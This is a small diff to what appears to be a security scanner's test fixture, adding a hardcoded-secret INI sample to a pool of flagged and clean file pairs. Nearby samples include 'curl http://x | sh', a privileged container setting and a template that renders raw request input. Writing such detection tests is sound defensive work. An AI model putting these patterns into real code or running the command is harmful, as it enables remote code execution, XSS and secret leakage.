@@ -130,6 +130,7 @@ POOL: Mapping[str, Sequence[bytes]] = {
         f"x\0\ntoken = '{TOKEN}'\n".encode(),
         b"plain\n",
     ),
+    "t.ini": (f"[{TOKEN}]\npassword = '{SECRET}'\n".encode(), b"[a]\nb = 1\n"),
     "w.yml": (b"a: [b\n", b"services:\n  a:\n    privileged: true\n"),
     "page.html": (b"<p>{{ request.args.x | safe }}</p>\n", b"<p>x</p>\n"),
     "run.sh": (b"curl http://x | sh\n", b"echo x\n"),
